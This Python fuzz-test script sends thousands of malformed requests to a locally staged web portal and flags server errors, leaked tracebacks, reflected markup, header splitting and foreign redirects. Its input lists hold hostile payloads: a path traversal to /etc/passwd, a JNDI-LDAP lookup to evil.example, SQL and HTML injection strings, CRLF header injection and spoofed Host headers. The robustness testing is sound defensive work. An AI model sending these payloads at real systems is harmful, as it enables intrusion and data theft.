"""Thousands of malformed requests over every page, operation and form, and what came of them.

`make storm` sets up one machine as `deploy/` does and sends half of them to nginx, half to gunicorn
itself. An answer of 500 and above, a traceback, what was sent as markup or a redirect to another
site is printed with its request, and is a failure. The same seed sends the same.
"""

import argparse
import collections
import json
import random
import re
import socket
import ssl
import sys
import tempfile
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from pathlib import Path
from urllib.parse import quote, urlsplit

from tests.faults.stage import Stage

EVIL = "<evil onload=x>"
SHORT_VALUES = [
    "0",
    "-1",
    "1e9",
    "NaN",
    "null",
    "true",
    "%",
    "%00",
    "%ff%fe",
    "%ed%a0%80",
    "%zz",
    "%F0%9F%92%A9",
    "%0d%0aX:1",
    "on",
    "+",
    "&&",
    "=",
    "[]",
    "{}",
    "qingdao,,",
    "../../etc/passwd",
    "//evil.example/",
    "https://evil.example/",
    "\\\\evil.example",
    "{{7*7}}",
    "2026-13-45",
    "${jndi:ldap://evil.example}",
    "'%20OR%201=1--",
]
LONG_VALUES = ["", "9" * 30, "a" * 3000, "医" * 300, "*" * 200, "\x7f", quote(EVIL)]
VALUES = SHORT_VALUES + LONG_VALUES
NAMES = [
    "q",
    "page",
    "page_size",
    "cursor",
    "at",
    "from",
    "to",
    "view",
    "start",
    "city",
    "domain",
    "kind",
    "format",
    "ordering",
    "after",
    "limit",
    "kinds",
    "minimal",
    "url",
    "about",
    "year",
    "live",
    "modified_after",
    "evidence",
    "scenario",
    "next",
    "token",
    "id",
    "text",
    "contact",
    "_method",
]
HEADERS = {
    "Accept": ["*/*", "text/html;q=zz", "application/json;;", ",", "a" * 4000, "text/csv"],
    "Accept-Encoding": ["br;q=9", "gzip;q=-1", "*", ";", "a" * 2000],
    "Range": ["bytes=0-", "bytes=9-1", "bytes=-0", "bytes=" + "0-1," * 200, "rows=1"],
    "If-None-Match": ["*", '"', 'W/"a", "b"', "a" * 3000],
    "If-Modified-Since": ["yesterday", "Thu, 99 Foo 9999 99:99:99 GMT"],
    "If-Match": ['"x"', "*"],
    "Cookie": ["sessionid=" + "a" * 300, "csrftoken=%00", "=;;=", "a=" + "b" * 3000],
    "Authorization": ["Bearer", "Bearer qp_x", "Basic AAAA", "Bearer \xff"],
    "X-Forwarded-For": ["evil", "127.0.0.1, ::1", "999.1.1.1"],
    "X-Forwarded-Host": ["evil.example"],
    "X-Forwarded-Proto": ["gopher", "http"],
    "X-Request-ID": ["a" * 200, EVIL],
    "Content-Type": ["application/json", "multipart/form-data", "text/xml; charset=utf-16", "x"],
    "Referer": ["https://evil.example/" + EVIL],
    "Origin": ["null", "https://evil.example"],
    "Host": ["evil.example", "localhost:99999", "a@b", ""],
}
METHODS = ["GET"] * 12 + ["POST"] * 3 + ["HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "FOO"]
BODIES = [b"", b"a=1", b"a=" * 2000, b"{", b'{"a": [[[[', b"\x00\xff", b"--x\r\n\r\n", b"a[b]=%ff"]
TRACES = re.compile(rb"Traceback \(most recent|psycopg2\.|django\.[a-z]+\.[a-z]+|File \"/")


def main(arguments):
    parser = argparse.ArgumentParser(prog="make storm", description=__doc__)
    parser.add_argument("--requests", type=int, default=20_000)
    parser.add_argument("--seed", type=int, default=1)
    options = parser.parse_args(arguments)
    with tempfile.TemporaryDirectory(prefix="portal-storm-") as directory:
        Path(directory).chmod(0o755)
        limits = {"API_REQUESTS_PER_MINUTE": "1000000"}
        with Stage(Path(directory), limits) as stage:
            found = send_all(stage, options.requests, random.Random(options.seed))  # noqa: S311
    for statuses, name in zip(found.statuses, ("nginx", "gunicorn"), strict=True):
        print(f"{name}: {sum(statuses.values())} answers, {dict(sorted(statuses.items()))}")
    for kind, request in found.faults:
        print(f"{kind}: {request[:300]!r}")
    print(f"{len(found.faults)} faults.")
    return bool(found.faults)


class Found:
    """What came back: how often which status, and what must not be."""

    def __init__(self):
        self.statuses = [collections.Counter(), collections.Counter()]
        self.faults = []


def send_all(stage, number, chance):
    """Send them over a few connections at once. Returns what was found."""
    shapes, found = shapes_of(stage), Found()
    web = stage.web_address
    ways = [lambda: stage.nginx.connect("127.0.0.1"), lambda: socket.create_connection(web)]
    requests = [(turn % 2, request_of(chance, shapes)) for turn in range(number)]

    def send(turn):
        way, request = turn
        judge(found, way, request, answer_to(ways[way], request))

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(send, requests))
    return found


def shapes_of(stage):
    """The paths of the site map and of the API, and the forms, each at least once."""
    maps = stage.nginx.ask("/sitemap.xml").text
    pages = {urlsplit(address).path for address in re.findall(r"<loc>([^<]+)</loc>", maps)}
    for path in [path for path in pages if path.endswith(".xml")]:
        found = re.findall(r"<loc>([^<]+)</loc>", stage.nginx.ask(path).text)
        pages |= {urlsplit(address).path for address in found}
    document = json.loads(stage.nginx.ask("/api/v1/openapi.json").text)
    operations = {re.sub(r"{[^}]+}", "example", path) for path in document["paths"]}
    forms = ["/feedback/", "/search/", "/search/count/", "/find/", "/admin/login/", "/check/x/"]
    return sorted(pages | operations) + forms * 20


def request_of(chance, shapes):
    """One request as bytes, broken somewhere."""
    path = chance.choice(shapes)
    if chance.random() < 0.4:
        parts = path.split("/")
        parts[chance.randrange(1, len(parts))] = chance.choice(VALUES).replace(" ", "%20")
        path = "/".join(parts)
    pairs = [
        f"{chance.choice([*NAMES, chance.choice(VALUES)[:50]])}={chance.choice(VALUES)}"
        for _ in range(chance.choice([0, 1, 1, 2, 3, 150]))
    ]
    address = path + ("?" + "&".join(pairs).replace(" ", "+") if pairs else "")
    headers = {"Host": "localhost", "Connection": "close", "X-Forwarded-Proto": "https"}
    for name in chance.sample(sorted(HEADERS), chance.choice([0, 1, 2, 4])):
        headers[name] = chance.choice(HEADERS[name])
    method = chance.choice(METHODS)
    body = b"" if method in ("GET", "HEAD") else chance.choice(BODIES)
    if body:
        headers.setdefault("Content-Type", "application/x-www-form-urlencoded")
        headers["Content-Length"] = str(len(body))
    lines = [
        f"{method} {address} HTTP/1.1",
        *(f"{name}: {value}" for name, value in headers.items()),
    ]
    return "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body


def answer_to(connect, request):
    """All that comes back; nothing where the connection is cut, as for what is no HTTP at all."""
    received = []
    try:
        with closing(connect()) as connection:
            connection.settimeout(30)
            connection.sendall(request)
            while piece := connection.recv(65536):
                received.append(piece)
    except (ConnectionError, ssl.SSLError):
        pass
    return b"".join(received)


def judge(found, way, request, answer):
    """Note the status, and the request where the answer must not be."""
    head, _, body = answer.partition(b"\r\n\r\n")
    status = int(head.split(b" ")[1]) if head.startswith(b"HTTP/") else 0
    found.statuses[way][status] += 1
    location = re.search(rb"(?im)^location: *([^\r\n]*)", head)
    checks = {
        f"status {status}": status >= 500,
        "trace": bool(TRACES.search(body)),
        "reflection": EVIL.encode() in body or EVIL.encode() in head,
        "split header": bool(re.search(rb"(?m)^X:1", head)),
        "foreign redirect": bool(location) and not is_own(location[1].decode("latin-1")),
    }
    found.faults += [(kind, request) for kind, holds in checks.items() if holds]


def is_own(address):
    """Whether a redirect stays on the site."""
    return urlsplit(address.replace("\\", "/")).hostname in (None, "localhost")


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
